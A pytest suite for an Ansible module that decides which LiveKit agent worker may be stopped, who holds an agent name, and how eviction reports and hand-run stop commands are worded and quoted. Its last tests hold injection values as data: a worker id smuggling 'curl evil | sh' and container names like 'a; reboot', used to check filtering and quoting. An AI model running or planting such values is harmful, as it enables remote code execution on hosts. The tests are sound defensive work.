"""Who holds an agent name, which worker may be stopped, whose name is proven afterwards, and how it is told."""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

import pytest
from ansible.module_utils.livekit_deploy.common.commands import Playbooks
from ansible.module_utils.livekit_deploy.machine import supervisors
from ansible.module_utils.livekit_deploy.names import eviction, eviction_report, holders, stopping
from ansible.module_utils.livekit_deploy.names.holders import Case
from ansible.module_utils.livekit_deploy.play.run import Runs

RELEASE = "20260102T030405Z-0a1b2c3d"
OURS = "sidekick-20260102t030405z-0a1b2c3d"


def worker(worker_id: str = "AW_F", name: str = "a", **changes: Any) -> Any:
    kind = changes.pop("kind", "docker")
    supervisor = supervisors.supervised(
        kind, changes.pop("supervisor", ""), policy="always" if kind == "docker" else ""
    )
    return {
        "worker_id": worker_id or None,
        "worker_ids": [worker_id] if worker_id else [],
        "agent_name": name or None,
        "container": "agent-1",
        "project": "theirs",
        "directory": "/srv/theirs",
        "registered_since": "2026-01-02T03:04:05.678+00:00",
        "running": True,
        "active_jobs": 1,
        "supervisor": supervisor,
        "start_command": "cd /srv/theirs && docker compose up -d agent",
        "unread": "",
        "env": {},
        **changes,
    }


def ours(host: str = "h1", **changes: Any) -> Any:
    return worker(
        "AW_O",
        project=OURS,
        release=RELEASE,
        instance=f"{host}/{RELEASE}",
        container=f"{OURS}-agent-worker-1",
        **changes,
    )


def host(*workers: dict[str, Any], name: str = "a", pool: str = "h1", **changes: Any) -> dict[str, Any]:
    return {
        "group": "agent_hosts",
        "in_run": True,
        "agent_name": name,
        "pool": pool,
        "urls": ["ws://10.0.0.1:7880"],
        "app": "sidekick",
        "releases": [RELEASE],
        "workers": list(workers),
        "evictions": [],
        "unread": [],
        **changes,
    }


def suspect(*workers: dict[str, Any], **changes: Any) -> dict[str, Any]:
    return host(*workers, name="", pool="", **{"group": "suspects", "urls": [], "app": "", "releases": None, **changes})


def case(hosts: dict[str, Any] | None = None, **changes: Any) -> Case:
    return Case(hosts or {"h1": host(ours()), "s1": suspect(worker())}, **changes)


def decided(case: Case) -> tuple[str, list[str]]:
    found: Any = stopping.decide_eviction(case)
    return (found["target"] or {}).get("host", ""), [str(problem) for problem in found["problems"]]


# --- may it be stopped -----------------------------------------------------------------------------------------------


def test_worker_of_somebody_else_is_the_target() -> None:
    assert decided(case(worker_id="AW_F")) == ("s1", [])


def test_earlier_id_of_a_worker_names_it_too() -> None:
    hosts = {"h1": host(ours()), "s1": suspect(worker("AW_NEW", worker_ids=["AW_F", "AW_NEW"]))}
    assert decided(case(hosts, worker_id="AW_F")) == ("s1", [])


def test_worker_of_somebody_else_on_a_host_of_ours_is_a_target() -> None:
    assert decided(case({"h1": host(ours(), worker())}, worker_id="AW_F")) == ("h1", [])


def test_machine_with_two_names_in_the_inventory_has_each_worker_once() -> None:
    mine, stranger = ours(container_id="0a", started_at="t"), worker(container_id="0b", started_at="t")
    hosts = {"s1": suspect(mine, stranger), "h1": host(mine, stranger)}
    assert sorted((found.host, found.ours) for found in case(hosts).workers()) == [("h1", True), ("s1", False)]


def refusals() -> Mapping[str, tuple[Case, str]]:
    pool = {"h1": host(ours(), pool="p"), "h2": host(worker(), pool="p")}
    return {
        "our own": (case(worker_id="AW_O"), "is a worker of a release of the pool h1"),
        "one of the pool's other host": (case(pool, worker_id="AW_O"), "is a worker of a release of the pool p"),
        "ours whose record cannot be read": (
            case({"h1": host(ours(), releases=None)}, worker_id="AW_O"),
            "release of the pool h1",
        ),
        "unknown": (case(worker_id="AW_X"), "AW_X is on no known host (searched: h1, s1)"),
        "two": (
            case({"h1": host(ours(), worker(pid=1)), "s1": suspect(worker(pid=2))}, worker_id="AW_F"),
            "agent-1 on h1, agent-1 on s1",
        ),
        "another supervisor": (
            case({"h1": host(ours()), "s1": suspect(worker(kind="other", supervisor="supervisord"))}, worker_id="AW_F"),
            "kept running by supervisord",
        ),
        "another name": (
            case({"h1": host(ours()), "s1": suspect(worker(name="b"))}, worker_id="AW_F"),
            "holds the name b",
        ),
        "a name that nobody has": (case(name="b", worker_id="AW_F"), "no host of the inventory has the name b"),
        "nothing to prove it with": (
            case({"h1": host(in_run=False), "s1": suspect(worker())}, worker_id="AW_F"),
            "no host of a (h1)",
        ),
        "a host that cannot be read": (
            case({"h1": host(releases=None), "s1": suspect(worker())}, worker_id="AW_F"),
            "no host of a (h1)",
        ),
    }


@pytest.mark.parametrize("what", refusals())
def test_request_is_refused_with_found_expected_and_what_to_do(what: str) -> None:
    asked, words = refusals()[what]
    target, problems = decided(asked)
    assert target == ""
    assert words in " ".join(problems)
    assert all(
        problem.startswith("found: ") and "Expected: " in problem and "To do: " in problem for problem in problems
    )


def test_worker_that_nobody_deployed_is_the_hosts_own_and_is_not_stopped() -> None:
    mine = worker("AW_O", container="shop-agent-1", release="unmanaged")
    hosts = {"h1": host(mine, releases=["unmanaged"], adopted={"shop-agent-1": "unmanaged"}), "s1": suspect(worker())}
    target, problems = decided(case(hosts, worker_id="AW_O"))
    assert (target, len(problems)) == ("", 1)
    assert "shop-agent-1 on h1 is the worker of h1" in problems[0]
    assert "if it is not yours, correct the inventory's entry h1" in problems[0]


def test_draining_worker_of_an_older_release_is_ours_too() -> None:
    older = "20260101T030405Z-0a1b2c3d"
    old = worker("AW_OLD", release=older, project=f"sidekick-{older}".lower(), instance=f"h1/{older}", draining=True)
    asked = case({"h1": host(ours(), old, releases=[RELEASE, older])}, worker_id="AW_OLD")
    assert "is a worker of a release" in decided(asked)[1][0]


@pytest.mark.parametrize(
    "copied",
    [
        pytest.param({"project": "theirs"}, id="by a container of another project"),
        pytest.param(
            {"project": "sidekick-20250102t030405z-0a1b2c3d", "release": "20250102T030405Z-0a1b2c3d"},
            id="by a release not on record",
        ),
    ],
)
def test_copied_environment_makes_no_worker_ours(copied: dict[str, str]) -> None:
    stranger = {**ours(), "worker_id": "AW_F", "worker_ids": ["AW_F"], **copied}
    assert decided(case({"h1": host(ours(), stranger)}, worker_id="AW_F")) == ("h1", [])


def test_worker_that_is_already_gone_is_no_reason_to_refuse() -> None:
    record = {"worker_id": "AW_F", "worker_ids": ["AW_F"], "container": "agent-1", "agent_name": "a"}
    assert decided(case({"h1": host(ours()), "s1": suspect(evictions=[record])}, worker_id="AW_F")) == ("s1", [])


# --- two pools under one name ----------------------------------------------------------------------------------------


def conflict(*more: dict[str, Any], **changes: Any) -> Case:
    other = ours("h2") | {"worker_id": "AW_2", "worker_ids": ["AW_2"]}
    return case({"h1": host(ours()), "h2": host(other, pool="h2"), "s1": suspect(*more)}, **changes)


def ours_under_conflict() -> dict[str, Any]:
    found: Any = stopping.decide_eviction(conflict(worker_id="AW_2"))
    return {"target": found["target"]["host"], "prove": found["prove"], "problems": found["problems"]}


def test_conflict_is_ended_by_naming_one_of_the_two_workers() -> None:
    assert ours_under_conflict() == {"target": "h2", "prove": ["h1"], "problems": []}


def test_name_of_two_pools_is_proven_for_neither() -> None:
    found: Any = stopping.decide_eviction(conflict())
    assert (found["prove"], found["problems"], len(found["unproven"])) == ([], [], 1)


def test_third_worker_may_be_stopped_and_the_run_fails_for_the_conflict() -> None:
    asked = conflict(worker(), worker_id="AW_F")
    found: Any = stopping.decide_eviction(asked)
    assert (found["target"]["host"], found["prove"]) == ("s1", [])
    assert "the inventory gives the name a to h1 (pool h1) and h2 (pool h2)" in stopping.eviction_failure(asked, found)


# --- what is proven --------------------------------------------------------------------------------------------------


def test_without_a_worker_to_stop_every_name_is_proven() -> None:
    hosts = {"h1": host(ours()), "h2": host(name="b", pool="h2"), "s1": suspect()}
    assert stopping.decide_eviction(case(hosts))["prove"] == ["h1", "h2"]


def test_after_an_eviction_only_its_name_is_proven() -> None:
    hosts = {"h1": host(ours()), "h2": host(name="b", pool="h2"), "s1": suspect(worker())}
    assert stopping.decide_eviction(case(hosts, worker_id="AW_F"))["prove"] == ["h1"]


def test_hosts_that_were_only_searched_prove_nothing() -> None:
    assert "s1" not in stopping.decide_eviction(case())["prove"]


def drained(**changes: Any) -> dict[str, Any]:
    return {
        "gone": True,
        "draining": False,
        "active_jobs": 0,
        "container": "agent-1",
        "worker_ids": ["AW_F"],
        "supervisor": supervisors.supervised("docker", ""),
        "policy": {"before": "always", "after": "unless-stopped"},
        "commands": ["docker kill --signal TERM agent-1"],
        "start_command": "start it",
        "also_at_boot": False,
        **changes,
    }


def verdict(kind: str, *foreign: str) -> dict[str, Any]:
    routing = {
        "reason": "because",
        "method": "reject-through probe",
        "seconds": 10.0,
        "not_seen": [],
        "foreign": list(foreign),
    }
    return {"h1": {"agent_name": "a", "verdict": kind, "routing": routing}}


@pytest.mark.parametrize(
    ("verdicts", "done", "options", "fails"),
    [
        pytest.param(verdict("exclusive"), drained(), {}, False, id="exclusive"),
        pytest.param(verdict("shared"), drained(), {}, False, id="shared in its pool"),
        pytest.param(verdict("foreign", "AW_3"), drained(), {}, True, id="a third worker"),
        pytest.param(verdict("inconclusive"), drained(), {}, True, id="not proven"),
        pytest.param(
            verdict("inconclusive"), drained(), {"accept_inconclusive": True}, False, id="not proven, and accepted"
        ),
        pytest.param({}, drained(), {}, True, id="no verdict"),
        pytest.param(
            verdict("foreign", "AW_F"), drained(gone=False, draining=True), {}, False, id="only the one that drains"
        ),
        pytest.param(
            verdict("foreign", "AW_F"), drained(gone=False), {}, True, id="the one that has not begun to drain"
        ),
        pytest.param(
            verdict("foreign", "AW_F", "AW_3"), drained(gone=False, draining=True), {}, True, id="a third beside it"
        ),
        pytest.param(verdict("foreign", "AW_F"), drained(), {}, True, id="one that has ended and is back"),
    ],
)
def test_run_fails_unless_the_name_is_ours_alone_afterwards(
    verdicts: dict[str, Any], done: dict[str, Any], options: dict[str, Any], fails: bool
) -> None:
    asked = case(worker_id="AW_F", verdicts=verdicts, drained=done, **options)
    assert bool(stopping.eviction_failure(asked, stopping.decide_eviction(asked))) is fails


def test_run_that_only_looks_does_not_fail_on_what_it_finds() -> None:
    asked = case(verdicts=verdict("foreign", "AW_F"))
    assert stopping.eviction_failure(asked, stopping.decide_eviction(asked)) == ""


# --- who holds a name ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("told", "name"),
    [
        pytest.param({"agent_name": "log", "answered_name": "answer"}, "log", id="by its log"),
        pytest.param({"answered_name": "answer", "override": "override"}, "answer", id="by its own answer"),
        pytest.param({"override": "override", "env": {"LIVEKIT_AGENT_NAME": "env"}}, "override", id="by its override"),
        pytest.param({"env": {"LIVEKIT_AGENT_NAME": "env", "AGENT_NAME": "other"}}, "env", id="by its environment"),
        pytest.param({}, "", id="not at all"),
    ],
)
def test_name_of_a_worker_is_the_one_in_effect(told: Any, name: str) -> None:
    assert holders.Worker("s1", told, False, "", frozenset()).name == name


@pytest.mark.parametrize(
    ("url", "elsewhere"),
    [("ws://10.0.0.1:7880/", ""), ("http://10.0.0.1:7880", ""), ("wss://other.test", "wss://other.test"), (None, "")],
)
def test_worker_at_another_server_is_told_apart(url: str | None, elsewhere: str) -> None:
    (found,) = case({"h1": host(worker(url=url))}).workers()
    assert found.elsewhere == elsewhere


LOG = {
    "host": "livekit-1",
    "workers": [
        {"worker_id": "AW_F", "agent_name": "a", "registered": "t", "job_type": "JT_ROOM", "closed": None},
        {
            "worker_id": "AW_X",
            "agent_name": "a",
            "registered": "then",
            "job_type": "JT_ROOM",
            "closed": None,
            "deployment": "blue",
        },
        {"worker_id": "AW_Y", "agent_name": "a", "registered": "then", "job_type": "JT_ROOM", "closed": "later"},
        {"worker_id": "AW_Z", "agent_name": "b", "registered": "then", "job_type": "JT_ROOM", "closed": None},
    ],
}


def test_worker_that_only_the_server_knows_is_told_with_all_it_knows() -> None:
    (found,) = holders.unknown_workers(case(server_logs=[LOG]), ["a"])
    assert found["worker_id"] == "AW_X"
    told = holders.unknown_worker_text(found)
    assert all(word in told for word in ("log of livekit-1", "registered since then", "JT_ROOM", "'blue'"))


def test_worker_that_only_a_probe_knows_is_told() -> None:
    (found,) = holders.unknown_workers(case(verdicts=verdict("foreign", "AW_F", "AW_P")), ["a"])
    assert (found["worker_id"], found["seen_by"]) == ("AW_P", "a probe")


def test_unknown_id_may_be_a_worker_whose_log_cannot_be_read() -> None:
    hosts = {"h1": host(ours()), "s1": suspect(worker("", unread="its standard output is a pipe"))}
    (found,) = holders.unknown_workers(case(hosts, verdicts=verdict("foreign", "AW_P")), ["a"])
    assert "it may be agent-1 on s1" in holders.unknown_worker_text(found)


# --- what is told ----------------------------------------------------------------------------------------------------


def report(asked: Case) -> tuple[str, dict[str, Any]]:
    found: Any = eviction_report.conclude(asked, stopping.decide_eviction(asked))
    return "\n".join(found["report_lines"]), found["report_documents"]["evict.json"]


def test_report_names_the_command_that_stops_a_worker() -> None:
    text, document = report(case(playbooks=Playbooks(["inventory/staging/hosts.yml"])))
    command = "ansible-playbook -i inventory/staging/hosts.yml playbooks/evict.yml -e evict_worker=AW_F"
    assert f"stop it: {command}" in text
    assert [row["command"] for row in document["names"]["a"]["workers"] if row["evictable"]] == [command]


def test_report_never_tells_how_to_stop_our_own() -> None:
    text, document = report(case({"h1": host(ours())}))
    assert "stop it" not in text
    assert [row["evictable"] for row in document["names"]["a"]["workers"]] == [False]


def test_worker_without_a_known_id_is_told_with_a_way_by_hand() -> None:
    text, _ = report(
        case(
            {
                "h1": host(),
                "s1": suspect(worker("", kind="none", pid=7, container="process 7", unread="its output is a pipe")),
            }
        )
    )
    assert "on s1: kill -TERM 7 (once: a second signal cuts its calls)" in text


def test_table_fits_a_terminal() -> None:
    long = worker(container="c" * 60, project="p" * 40, directory="/srv/" + "d" * 40, kind="other", supervisor="s" * 80)
    text, _ = report(case({"h1": host(ours()), "s1": suspect(long)}))
    assert max(len(line) for line in text.splitlines()) <= 120


def test_worker_that_has_ended_is_no_longer_in_the_list() -> None:
    text, document = report(case(worker_id="AW_F", drained=drained(), verdicts=verdict("exclusive")))
    assert [row["worker_id"] for row in document["names"]["a"]["workers"]] == ["AW_O"]
    assert "agent-1 on s1 has ended." in text
    assert "To start it again, on s1: start it" in text
    assert "policy was always and is unless-stopped" in text


def test_worker_that_drains_is_told_with_its_calls_and_without_a_command() -> None:
    busy = drained(gone=False, draining=True, active_jobs=2)
    text, _ = report(case(worker_id="AW_F", drained=busy, verdicts=verdict("exclusive")))
    assert "calls it still has: 2" in text
    assert "not of this inventory's releases, draining" in text
    assert "stop it" not in text


def test_unit_that_starts_at_boot_is_told() -> None:
    unit = drained(supervisor=supervisors.supervised("systemd", "agent.service"), also_at_boot=True, policy=None)
    assert (
        "systemctl disable agent.service"
        in report(case(worker_id="AW_F", drained=unit, verdicts=verdict("exclusive")))[0]
    )


def test_what_was_not_looked_at_is_told() -> None:
    text, _ = report(
        case({"h1": host(ours()), "s1": suspect(in_run=False, unread=["it is not in this run (--limit)"])})
    )
    assert "Not looked at, so a worker there is in no list:\n  s1: it is not in this run (--limit)" in text


def test_check_run_tells_what_would_be_done_and_claims_nothing() -> None:
    text, document = report(case(worker_id="AW_F", drained=drained(gone=False), checking=True))
    assert "agent-1 on s1 would be told to stop:\n  docker kill --signal TERM agent-1" in text
    assert document["ok"]
    assert document["names"]["a"]["verdict"] is None


def test_refused_request_is_not_ok() -> None:
    assert report(case(worker_id="AW_O"))[1]["ok"] is False


# --- from the variables of a play ------------------------------------------------------------------------------------

GROUPS = {"agent_hosts": ["h1"], "suspects": ["s1", "h1"]}


def variables(**changes: Any) -> dict[str, Any]:
    return {"livekit_agent_name": "a", "agent_release_app": "sidekick", "livekit_url": "ws://10.0.0.1:7880", **changes}


def test_host_of_both_groups_is_an_agent_host() -> None:
    found = eviction.eviction_hosts(Runs({"h1": variables(), "s1": {}}), GROUPS)
    assert {name: about["group"] for name, about in found.items()} == {"h1": "agent_hosts", "s1": "suspects"}


@pytest.mark.parametrize(
    ("read", "unread"),
    [
        pytest.param({}, ["it is not in this run (--limit)"], id="left out"),
        pytest.param({"__eviction_read": {"unreachable": True, "msg": "no route"}}, ["no route"], id="unreachable"),
        pytest.param({"__eviction_read": {"workers": [], "unread": ["containers"]}}, ["containers"], id="in part"),
        pytest.param({"__eviction_read": {"workers": [], "unread": []}}, [], id="whole"),
    ],
)
def test_what_could_not_be_read_of_a_host_is_kept(read: dict[str, Any], unread: list[str]) -> None:
    assert eviction.eviction_hosts(Runs({"h1": variables(), "s1": read}), GROUPS)["s1"]["unread"] == unread


def test_environment_and_log_lines_stay_on_the_host() -> None:
    read = {"workers": [{**worker(), "last_lines": ["private"], "requests": [{"room": "private"}]}]}
    assert "private" not in json.dumps(
        eviction.eviction_hosts(Runs({"h1": variables(__eviction_read=read), "s1": {}}), GROUPS)
    )


COMPLETE = {
    "livekit_api_key": "key",
    "livekit_api_secret": "0123456789abcdef0123456789abcdef",
    "livekit_agent_image": "r.corp.test/w@sha256:" + "0" * 64,
    "agent_api_image": "r.corp.test/a@sha256:" + "0" * 64,
    "ansible_host": "10.0.0.5",
}


def test_two_pools_under_one_name_are_no_reason_not_to_look() -> None:
    hostvars = {"h1": variables(**COMPLETE), "h2": variables(**COMPLETE)}
    assert eviction.early_problems(hostvars, ["h1", "h2"], ["h1", "h2", "s1"]) == []


@pytest.mark.parametrize(
    ("changes", "words"),
    [
        pytest.param({"livekit_api_secret": ""}, "livekit_api_secret is not set", id="no secret"),
        pytest.param({"livekit_url": "ws://10.0.0.2:7880"}, "several LiveKit servers", id="two servers"),
    ],
)
def test_what_keeps_the_server_from_being_asked_is_refused(changes: dict[str, str], words: str) -> None:
    hostvars = {"h1": variables(**COMPLETE), "h2": {**variables(**COMPLETE), "livekit_agent_name": "b", **changes}}
    (problem,) = eviction.early_problems(hostvars, ["h1", "h2"], ["h1", "h2"])
    assert words in problem


def test_worker_of_an_adopted_project_is_ours() -> None:
    read = {"workers": [worker("AW_S", project="seed", release=None)], "unread": []}
    releases = {"states": {RELEASE: "serving"}, "adopted": {"agent-1": RELEASE}}
    about: Any = eviction.eviction_hosts(
        Runs({"h1": variables(__eviction_read=read, __eviction_release=releases), "s1": {}}), GROUPS
    )["h1"]
    assert holders.is_own_worker(about, "h1", about["workers"][0])
    assert not holders.is_own_worker(about | {"adopted": {}}, "h1", about["workers"][0])


# --- what a stranger's log and container may say ---------------------------------------------------------------------

EVIL = "AW_1; curl evil | sh #"


def test_id_that_no_server_makes_is_in_no_command() -> None:
    strange = worker("AW_F", worker_ids=[EVIL, "AW_F"])
    text, document = report(case({"h1": host(ours()), "s1": suspect(strange)}))
    assert EVIL not in text + json.dumps(document)


def test_worker_with_nothing_but_such_an_id_has_none() -> None:
    found = holders.Worker("h1", worker(EVIL), ours=False, pool="", servers=frozenset())
    assert found.ids == set()
    assert "kill" in str(stopping.stop_refusal(case(), found))


@pytest.mark.parametrize(
    ("kind", "container", "command"),
    [
        ("docker", "agent-1", "docker kill --signal TERM agent-1"),
        ("docker", "a; reboot", "docker kill --signal TERM 'a; reboot'"),
        ("docker", "--all", "docker kill --signal TERM -- --all"),
        ("none", "process 7", "kill -TERM 7"),
    ],
)
def test_command_by_hand_is_quoted(kind: str, container: str, command: str) -> None:
    assert stopping.command_by_hand(worker("", kind=kind, container=container, pid=7)) == command


def test_record_of_another_form_names_nobody() -> None:
    assert holders.valid_ids({"worker_id": EVIL, "worker_ids": None}) == []
    assert holders.valid_ids({"worker_id": "AW_1", "worker_ids": [EVIL, 7]}) == ["AW_1"]


def test_an_unknown_worker_is_refused_with_those_that_there_are() -> None:
    (problem,) = stopping.decide_eviction(case(worker_id="AW_X"))["problems"]
    assert "the id of a worker on one of them (AW_" in problem.expected
    many = {"h1": host(*(worker(f"AW_{number}", pid=number, container=f"agent-{number}") for number in range(1, 41)))}
    (problem,) = stopping.decide_eviction(case(many, worker_id="AW_X"))["problems"]
    assert problem.expected.endswith(" and 20 more)")
    (problem,) = stopping.decide_eviction(case({"h1": host()}, worker_id="AW_X"))["problems"]
    assert problem.expected.endswith("where none was found")
